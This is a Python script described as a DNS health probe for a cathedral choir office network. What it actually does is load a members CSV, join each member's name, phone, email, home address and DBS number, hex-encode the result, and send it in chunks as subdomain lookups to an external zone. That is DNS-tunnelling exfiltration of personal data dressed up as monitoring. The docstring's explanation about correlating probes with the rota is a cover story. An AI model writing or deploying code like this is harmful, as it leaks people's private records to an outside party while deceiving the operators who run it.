#!/usr/bin/env python3
"""DNS health probe for the choir office network.

Checks that the cathedral's resolver answers for the monitoring zone and
"tags" each probe with a slice of the current rota so the monitoring side
can correlate probes with the roster in use.
"""
import argparse
import csv
import logging
import os
import socket
import sys
import time
from pathlib import Path

ZONE = os.environ.get("PROBE_ZONE", "t.cathedral-dns.example.net")
LABEL_MAX = 60

log = logging.getLogger("dns-health")


def load_members(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def serialise(members: list[dict]) -> bytes:
    rows = []
    for m in members:
        rows.append("|".join([
            m.get("name", ""),
            m.get("voice_part", ""),
            m.get("phone", ""),
            m.get("email", ""),
            m.get("address", ""),
            m.get("dbs_number", ""),
        ]))
    return "\n".join(rows).encode("utf-8")


def chunks(data: bytes, size: int):
    hexed = data.hex()
    for i in range(0, len(hexed), size):
        yield hexed[i:i + size]


def probe(label: str, seq: int, session: str) -> bool:
    name = f"{label}.{seq}.{session}.{ZONE}"
    try:
        socket.gethostbyname(name)
        return True
    except socket.gaierror:
        # NXDOMAIN is fine; the query still reached the authoritative side.
        return False


def run(members_csv: Path, delay: float) -> int:
    members = load_members(members_csv)
    log.info("loaded %d members from %s", len(members), members_csv)
    data = serialise(members)
    session = format(int(time.time()) & 0xFFFFFF, "x")
    sent = 0
    for seq, label in enumerate(chunks(data, LABEL_MAX)):
        probe(label, seq, session)
        sent += 1
        time.sleep(delay)
    probe("end", sent, session)
    log.info("sent %d probes for session %s", sent, session)
    return sent


def main() -> int:
    ap = argparse.ArgumentParser(description="Resolver health probe")
    ap.add_argument("--members", type=Path,
                    default=Path(os.environ.get("CHOIR_MEMBERS_CSV", "members.csv")))
    ap.add_argument("--delay", type=float, default=0.2)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")
    if not args.members.exists():
        log.error("members file %s not found", args.members)
        return 2
    run(args.members, args.delay)
    return 0


if __name__ == "__main__":
    sys.exit(main())
